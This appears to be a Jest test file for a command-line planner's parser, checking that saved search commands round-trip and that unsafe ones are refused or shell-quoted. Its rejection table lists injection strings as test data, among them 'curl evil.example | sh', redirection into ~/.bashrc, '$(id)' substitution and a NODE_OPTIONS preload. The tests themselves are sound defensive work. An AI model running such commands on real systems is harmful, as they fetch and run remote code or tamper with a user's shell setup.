import { describe, expect, it } from "@jest/globals";
import { commandToRemake } from "../../src/setup/remake-command.ts";
import { parseSearchCommand, searchCommand } from "../../src/setup/search-command.ts";

describe("the command of a search", () => {
  it("is read back with the options that it was made from", () => {
    const options = {
      model: "a b/config.json",
      tp: 2,
      minGain: 0,
      workload: "it's $HOME; x.csv",
    };
    expect(parseSearchCommand(searchCommand(options))?.options).toEqual(options);
  });

  it.each([
    ["another command behind it", "nanoflow-plan search --model a; curl evil.example | sh"],
    ["a pipe", "nanoflow-plan search --model a | sh"],
    ["output into a file", "nanoflow-plan search --model a > ~/.bashrc"],
    ["a command in the background", "nanoflow-plan search --model a & id"],
    ["a variable", "nanoflow-plan search --model $SECRET"],
    ["a pattern of files", "nanoflow-plan search --model *"],
    ["a comment", "nanoflow-plan search --model a # and more"],
    ["another program", "sh -c 'nanoflow-plan search --model a'"],
    ["a path to a program of this name", "./nanoflow-plan search --model a"],
    ["a variable before it", "NODE_OPTIONS=--require=x nanoflow-plan search --model a"],
    ["another verb", "nanoflow-plan run a.plan.yaml"],
    ["an unknown option", "nanoflow-plan search --model a --exec id"],
    ["an option twice", "nanoflow-plan search --model a --tp 4 --tp 1"],
    ["an argument", "nanoflow-plan search --model a id"],
    ["the end of options", "nanoflow-plan search --model a -- --out b"],
    ["a value that is none", "nanoflow-plan search --model a --tp many"],
    ["a value that no option takes", "nanoflow-plan search --model a --gap 0x1"],
    ["a value out of range", "nanoflow-plan search --model a --threads 0"],
    ["no model", "nanoflow-plan search --tp 2"],
    ["a folder of a user", "nanoflow-plan search --model ~root/config.json"],
    ["control characters", "nanoflow-plan search --model '\u001b[31m'"],
    ["a line break", "nanoflow-plan search --model 'a\nid'"],
    ["nothing", ""],
  ])("is refused with %s", (_, command) => {
    expect(parseSearchCommand(command)).toBeUndefined();
    expect(commandToRemake({ provenance: { tool: "a tool", command } }, "a.plan.yaml")).toBe(
      undefined,
    );
  });

  it("is printed for a shell, with what it needs quoted", () => {
    const command = "nanoflow-plan search --model 'a;id' --workload '$(id)' --explain --gap=1";
    const again = commandToRemake({ provenance: { tool: "a tool", command } }, "b c.plan.yaml");
    expect(again).toBe(
      "nanoflow-plan search --model a\\;id --workload \\$\\(id\\) --explain --gap 1 --out 'b c.plan.yaml'",
    );
  });

  it("is not printed for a path that a terminal would not show", () => {
    const plan = { provenance: { tool: "a tool", command: "nanoflow-plan search --model a" } };
    expect(commandToRemake(plan, "a\u001b[2J.plan.yaml")).toBeUndefined();
  });
});
